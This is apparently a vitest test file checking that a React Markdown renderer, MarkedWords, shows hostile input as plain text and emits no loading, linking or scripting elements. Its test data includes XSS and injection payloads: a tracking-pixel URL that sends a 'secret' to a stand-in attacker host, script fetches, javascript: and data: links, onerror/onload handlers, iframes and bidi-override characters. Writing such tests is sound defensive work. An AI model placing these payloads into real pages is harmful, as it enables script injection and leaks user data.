import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { MarkedWords } from './marked-words.tsx'

const HOSTILE = [
  '![pixel](https://evil.example/p.png?d=secret)',
  '[click](https://evil.example) <a href="https://evil.example">here</a>',
  '[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
  '<img src=x onerror=alert(1)><svg onload=alert(1)><image href="https://evil.example"/></svg>',
  '<script>fetch("https://evil.example")</script><style>@import "https://evil.example"</style>',
  '<iframe src="https://evil.example"></iframe><base href="https://evil.example">',
  'https://evil.example www.evil.example mail@evil.example <https://evil.example>',
  '[ref]: https://evil.example\n\n![ref]',
  '**[bold link](https://evil.example)** *![x](https://evil.example)* `<img src=x>`',
  '- ![a](https://evil.example/a)\n- <img src="https://evil.example/b">',
  '# Title\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\n```html\n<img src=x>\n```',
  '\u202e<img src=x>\u202c \u2066isolated\u2069',
]

test.each(HOSTILE)('%j shows its characters: no element that loads, leads or runs', (text) => {
  const html = renderToStaticMarkup(<MarkedWords text={text} />)
  const elements = [...html.matchAll(/<\/?([a-z]+)/g)].map(([, name]) => name)
  expect(new Set(elements).difference(new Set(['bdi', 'span', 'ul', 'li', 'strong', 'em', 'code']))).toEqual(
    new Set(),
  )
  // No attribute but our own classes, and nothing that turns the direction of what follows.
  expect([...html.matchAll(/<[a-z]+ ([a-z]+)=/g)].filter(([, name]) => name !== 'class')).toEqual([])
  expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
})

test('what is in the closed set is set off', () => {
  expect(
    renderToStaticMarkup(<MarkedWords text="**90** _days_, `§ 4`" />).replace(/ class="[^"]*"/g, ''),
  ).toBe('<bdi><strong>90</strong> <em>days</em>, <code>§ 4</code></bdi>')
})
